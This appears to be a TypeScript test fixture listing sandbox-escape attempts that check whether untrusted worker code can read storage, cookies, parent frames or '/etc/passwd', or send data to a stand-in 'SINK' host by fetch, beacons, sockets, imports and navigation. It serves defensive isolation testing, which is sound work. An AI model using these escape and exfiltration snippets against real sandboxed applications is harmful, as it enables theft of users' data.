/** One attempt of code to reach what it must not. It leaks where it returns anything that says something, or where a server hears of it. */
export interface Attempt {
  /** The row of the threat table that it tries. */
  readonly row: number;
  readonly name: string;
  /**
   * The body of an async function; SINK stands for a server that must hear nothing, HOME for the application's,
   * `pause` waits so many milliseconds.
   */
  readonly code: string;
  /** Where nothing protects, it leaks in these engines: that is the proof that it bites. */
  readonly bites?: readonly EngineName[];
  /**
   * All are tried at the same time, but those that hold up the whole worker come first, one after the other, and those
   * that leave a rejection behind have a run of their own.
   */
  readonly when?: 'first' | 'alone';
}

/** The engines that attempts are made in. */
export type EngineName = 'Chromium' | 'Firefox' | 'WebKit';

const ALL: readonly EngineName[] = ['Chromium', 'Firefox', 'WebKit'];
const CHROMIUM: readonly EngineName[] = ['Chromium'];

const openDatabase = (factory: string) => `const factory = ${factory};
  return new Promise((resolve, reject) => {
    const request = factory.open('engines-secret');
    request.onerror = () => reject(request.error);
    request.onsuccess = () => {
      const get = request.result.transaction('kept').objectStore('kept').get('secret');
      get.onsuccess = () => resolve(get.result);
      get.onerror = () => reject(get.error);
    };
  });`;

/** A getter or function of the global, wherever on its chain of prototypes it stands. */
const recovered = (name: string) => `((name) => {
    for (let holder = globalThis; holder !== null; holder = Object.getPrototypeOf(holder)) {
      const found = Object.getOwnPropertyDescriptor(holder, name);
      if (found !== undefined) return found.get === undefined ? found.value : found.get.call(globalThis);
    }
  })('${name}')`;

/** Starts a worker and gives what it posts; what never starts, or posts 0, has reached nothing. */
const answerOf = (worker: string) => `const worker = ${worker};
  return new Promise((resolve, reject) => {
    worker.onmessage = ({ data }) => resolve(data);
    worker.onerror = () => reject(new Error('refused'));
  });`;

const blobOf = (text: string) =>
  `URL.createObjectURL(new Blob([${JSON.stringify(text)}], { type: 'text/javascript' }))`;

const NESTED =
  "fetch('SINKnested', { mode: 'no-cors' }).then(() => postMessage(1), () => postMessage(0))";

/** Tried in one worker at the same time: none of them changes what the others find. */
export const attempts: readonly Attempt[] = [
  { row: 1, name: 'IndexedDB', code: openDatabase('indexedDB'), bites: ALL },
  {
    row: 1,
    name: 'the names of databases',
    code: 'return (await indexedDB.databases()).length;',
    bites: ALL,
    when: 'alone',
  },
  {
    row: 1,
    name: 'IndexedDB by the prototypes of the global',
    code: openDatabase(recovered('indexedDB')),
    bites: ALL,
  },
  { row: 2, name: 'localStorage', code: "return localStorage.getItem('secret');" },
  { row: 2, name: 'sessionStorage', code: "return sessionStorage.getItem('secret');" },
  { row: 3, name: 'cookies', code: 'return document.cookie;' },
  { row: 3, name: 'the cookie store', code: "return (await cookieStore.get('secret')).value;" },
  {
    row: 4,
    name: 'caches',
    code: "return (await (await caches.open('engines-secret')).match('HOMEsecret')).text();",
    bites: ALL,
  },
  {
    row: 4,
    name: 'caches by the prototypes of the global',
    code: `return (await ${recovered('caches')}.match('HOMEsecret')).text();`,
    bites: ALL,
  },
  {
    row: 5,
    name: 'the private file system',
    code: "return (await (await (await navigator.storage.getDirectory()).getFileHandle('secret.txt')).getFile()).text();",
    bites: ['Chromium', 'Firefox'],
  },
  {
    row: 5,
    name: 'storage buckets',
    code: "return (await navigator.storageBuckets.open('kept')).name;",
    bites: CHROMIUM,
  },
  {
    row: 6,
    name: 'the file system of old',
    when: 'first',
    code: 'return webkitRequestFileSystemSync(0, 1024).name;',
    bites: CHROMIUM,
  },
  {
    row: 6,
    name: 'the file system of old, later',
    code: 'return new Promise((resolve, reject) => webkitRequestFileSystem(0, 1024, ({ name }) => resolve(name), reject));',
    bites: CHROMIUM,
  },
  { row: 7, name: 'locks', code: 'return (await navigator.locks.query()) && 1;', bites: ALL },
  {
    row: 7,
    name: 'holding a lock',
    code: "return navigator.locks.request('code-connector', () => 'held');",
    bites: ALL,
  },
  {
    row: 8,
    name: 'a channel to the editor',
    code: "new BroadcastChannel('engines-secret').postMessage('SINK'); await pause(200);",
    bites: ALL,
  },
  { row: 10, name: 'a shared worker', code: "return new SharedWorker('HOMEfavicon.svg') && 1;" },
  {
    row: 10,
    name: 'a service worker',
    code: "return (await navigator.serviceWorker.register('HOMEx.js')) && 1;",
  },
  { row: 11, name: 'the parent', code: 'return parent.location.href;' },
  { row: 11, name: 'the top window', code: 'return top.document.title;' },
  { row: 11, name: 'the frames', code: 'return frames[0].location.href;' },
  {
    row: 12,
    name: 'the application by fetch',
    code: "return (await fetch('HOMEindex.html', { credentials: 'include' })).text();",
    bites: ALL,
  },
  {
    row: 12,
    name: 'the application by a request object',
    code: "return (await fetch(new Request('HOMEindex.html', { mode: 'same-origin' }))).status;",
    bites: ALL,
  },
  {
    row: 12,
    name: 'the cookie that no script sees, by fetch',
    code: "return (await fetch('HOMEcookies', { credentials: 'include' })).text();",
    bites: ALL,
  },
  {
    row: 13,
    name: 'another origin by fetch',
    code: "return (await fetch('SINKfetch', { mode: 'no-cors' })).type;",
    bites: ALL,
  },
  {
    row: 13,
    name: 'another origin by fetch that reads the answer',
    code: "return (await fetch('SINKread')).text();",
    bites: ALL,
  },
  {
    row: 13,
    name: 'another origin by fetch that outlives the page',
    code: "return (await fetch('SINKkeep', { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' })).type;",
    bites: ALL,
  },
  {
    row: 14,
    name: 'a data address',
    code: "return (await fetch('data:text/plain,secret')).text();",
    bites: ALL,
  },
  { row: 14, name: 'a file', code: "return (await fetch('file:///etc/passwd')).text();" },
  {
    row: 14,
    name: 'a blob address by fetch',
    code: `return (await fetch(${blobOf('secret')})).text();`,
    bites: ALL,
  },
  {
    row: 15,
    name: 'a synchronous request',
    when: 'first',
    code: "const request = new XMLHttpRequest(); request.open('GET', 'SINKxhr', false); request.send(); return request.status;",
    bites: ALL,
  },
  {
    row: 15,
    name: 'a request of old',
    code: "const request = new XMLHttpRequest(); request.open('POST', 'SINKxhr2'); request.send('x'); return new Promise((resolve, reject) => { request.onload = () => resolve(request.status); request.onerror = reject; });",
    bites: ALL,
  },
  {
    row: 16,
    name: 'a web socket',
    code: "const socket = new WebSocket('SINKsocket'.replace('http', 'ws')); return new Promise((resolve, reject) => { socket.onopen = () => resolve(1); socket.onerror = reject; });",
    bites: ALL,
  },
  {
    row: 16,
    name: 'a web socket with streams',
    code: "await new WebSocketStream('SINKstream'.replace('http', 'ws')).opened; return 1;",
  },
  {
    row: 17,
    name: 'an event source',
    code: "const source = new EventSource('SINKevents'); return new Promise((resolve, reject) => { source.onopen = () => resolve(1); source.onerror = reject; });",
    bites: ALL,
  },
  {
    row: 18,
    name: 'web transport',
    // Beside an open channel it holds Firefox's worker for ever.
    when: 'alone',
    code: "const t = new WebTransport('SINKt'.replace('http:', 'https:')); await t.ready; return 1;",
  },
  {
    row: 19,
    name: 'peer connections',
    code: "const peer = new RTCPeerConnection({ iceServers: [{ urls: 'SINK'.replace(/^http:..([^/]+).*/, 'stun:$1') }] }); peer.createDataChannel('x'); await peer.setLocalDescription(); await pause(300); return 1;",
  },
  { row: 20, name: 'a beacon', code: "return navigator.sendBeacon('SINKbeacon', 'x');" },
  {
    row: 20,
    name: 'a fetch for later',
    code: "fetchLater('SINKlater', { method: 'POST', activateAfter: 0 }); await pause(200);",
  },
  {
    row: 21,
    name: 'importScripts of another origin',
    when: 'first',
    code: "importScripts('SINKscript.js'); return 1;",
    bites: ALL,
  },
  {
    row: 21,
    name: 'importScripts of data',
    when: 'first',
    code: "importScripts('data:text/javascript,globalThis.imported=1'); return globalThis.imported;",
    bites: ALL,
  },
  {
    row: 21,
    name: 'importScripts of a blob',
    when: 'first',
    code: `importScripts(${blobOf('globalThis.importedBlob=1')}); return globalThis.importedBlob;`,
    bites: ALL,
  },
  {
    row: 22,
    name: 'import of another origin',
    code: "return (await import('SINKmodule.js')).default;",
    bites: ALL,
  },
  {
    row: 22,
    name: 'import of the application',
    code: "return (await import('HOMEcontrol/comlink.mjs')) && 1;",
    bites: ALL,
  },
  {
    row: 22,
    name: 'import of data',
    code: "return (await import('data:text/javascript,export default 1')).default;",
    bites: ALL,
  },
  {
    row: 22,
    name: 'import of a blob',
    code: `return (await import(${blobOf('export default 1')})).default;`,
    bites: ALL,
  },
  {
    row: 22,
    name: 'import in a made function',
    code: 'return (await new Function("return import(\'SINKmade.js\')")()).default;',
    bites: ALL,
  },
  {
    row: 23,
    name: 'import of JSON',
    code: "return (await new Function(\"return import('SINKdata.json', { with: { type: 'json' } })\")()) && 1;",
    bites: ALL,
  },
  {
    row: 23,
    name: 'import of a style sheet',
    code: "return (await new Function(\"return import('SINKdata.css', { with: { type: 'css' } })\")()) && 1;",
  },
  {
    row: 24,
    name: 'import in a made generator',
    code: 'const Made = (async function* () {}).constructor; return (await new Made("yield (await import(\'SINKgenerator.js\')).default")().next()).value;',
    bites: ALL,
  },
  {
    row: 24,
    name: 'import in a timer of text',
    code: 'setTimeout("import(\'SINKtimer.js\')", 0); await pause(200);',
  },
  {
    row: 25,
    name: 'a nested worker of a blob',
    code: answerOf(`new Worker(${blobOf(NESTED)})`),
    bites: ALL,
  },
  {
    row: 25,
    name: 'a nested worker of data',
    code: answerOf(
      `new Worker('data:text/javascript,' + encodeURIComponent(${JSON.stringify(NESTED)}))`,
    ),
  },
  {
    row: 25,
    name: 'a nested worker of another origin',
    code: answerOf("new Worker('SINKworker.js')"),
  },
  {
    row: 26,
    name: 'the constructor of workers by the prototypes of the global',
    code: answerOf(`new (${recovered('Worker')})(${blobOf(NESTED)})`),
    bites: ALL,
  },
  {
    row: 26,
    name: 'the constructor of workers by a made function',
    code: answerOf(`new (Function('return Worker')())(${blobOf(NESTED)})`),
    bites: ALL,
  },
  {
    row: 27,
    name: 'a font',
    code: "await new FontFace('x', 'url(SINKfont.woff2)').load(); return 1;",
    bites: ['Chromium', 'Firefox'],
  },
  {
    row: 27,
    name: 'a font on a canvas',
    code: "const face = new FontFace('y', 'url(SINKcanvas.woff2)'); fonts.add(face); const pen = new OffscreenCanvas(9, 9).getContext('2d'); pen.font = '9px y'; pen.fillText('x', 1, 9); await pause(200);",
  },
  {
    row: 27,
    name: 'a filter on a canvas',
    code: "const pen = new OffscreenCanvas(9, 9).getContext('2d'); pen.filter = 'url(SINKfilter.svg#x)'; pen.fillRect(0, 0, 9, 9); await pause(200);",
  },
  {
    row: 28,
    name: 'a picture that loads another',
    code: 'const svg = new Blob([\'<svg xmlns="http://www.w3.org/2000/svg"><image href="SINKimage"/></svg>\'], { type: \'image/svg+xml\' }); await createImageBitmap(svg);',
  },
  {
    row: 28,
    name: 'an image element',
    code: "new Image().src = 'SINKimage2'; await pause(200); return 1;",
  },
  {
    row: 29,
    name: 'a notification',
    code: "if (Notification.permission !== 'granted') return; return new Notification('x', { icon: 'SINKicon' }) && 1;",
  },
  {
    row: 30,
    name: 'WebAssembly that is compiled as it comes',
    code: "await WebAssembly.compileStreaming(fetch('SINKwasm', { mode: 'no-cors' })); return 1;",
    bites: ALL,
  },
  {
    row: 30,
    name: 'WebAssembly that is made as it comes',
    code: "await WebAssembly.instantiateStreaming(fetch('SINKwasm2', { mode: 'no-cors' })); return 1;",
    bites: ALL,
  },
  {
    row: 31,
    name: 'a report of what was refused',
    code: "new ReportingObserver(() => {}, { buffered: true }).observe(); await fetch('http://127.0.0.1:9/refused').catch(() => {}); await pause(200);",
  },
  {
    row: 32,
    name: 'navigation',
    code: "self.location.href = 'SINKnavigate'; await pause(200);",
  },
  {
    row: 32,
    name: 'navigation by a call',
    code: "self.location.assign('SINKassign'); await pause(200); return 1;",
  },
  { row: 33, name: 'a window', code: "return self.open('SINKwindow') && 1;" },
  {
    row: 33,
    name: 'the address of the top window',
    code: "top.location = 'SINKtop'; await pause(200); return 1;",
  },
  {
    row: 34,
    name: 'a connection ahead of its use',
    code: "const link = document.createElement('link'); link.rel = 'preconnect'; link.href = 'SINK'; document.head.append(link); await pause(200); return 1;",
  },
  {
    row: 35,
    name: 'USB devices',
    code: 'return (await navigator.usb.getDevices()) && 1;',
    bites: CHROMIUM,
  },
  {
    row: 35,
    name: 'serial ports',
    code: 'return (await navigator.serial.getPorts()) && 1;',
    bites: CHROMIUM,
  },
  {
    row: 35,
    name: 'the place on earth',
    code: 'return new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => resolve(1), reject));',
  },
  { row: 36, name: 'shared memory', code: 'return new SharedArrayBuffer(8) && 1;' },
  {
    row: 36,
    name: 'shared memory of WebAssembly in another worker',
    code: `const { buffer } = new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true });
      const worker = new Worker(${blobOf('onmessage = ({ data }) => { new Int32Array(data)[0] = 1; }')});
      worker.postMessage(buffer);
      await pause(300);
      return new Int32Array(buffer)[0];`,
  },
  {
    row: 37,
    name: 'a message to whoever made the worker',
    code: "postMessage({ type: 'up', origin: 'null' }); postMessage('init'); await pause(100);",
  },
  {
    row: 37,
    name: 'a message with a port to whoever made the worker',
    code: "const { port1, port2 } = new MessageChannel(); postMessage('init', [port2]); return new Promise((resolve) => { port1.onmessage = ({ data }) => resolve(data); });",
  },
  {
    row: 49,
    name: 'the storage by way of a constructor',
    code: "return [].constructor.constructor('return localStorage.secret')();",
  },
  {
    row: 49,
    name: 'the storage by way of what the step was given',
    code: "return context.logger.info.constructor('return localStorage.secret')();",
  },
  {
    row: 52,
    name: 'require of a constructor',
    code: "const name = 'constructor'; return require(name) && 1;",
  },
  {
    row: 52,
    name: 'require of a prototype',
    code: "const name = '__proto__'; return require(name) && 1;",
  },
  { row: 52, name: 'require of a path', code: "return require('../../../etc/passwd') && 1;" },
];
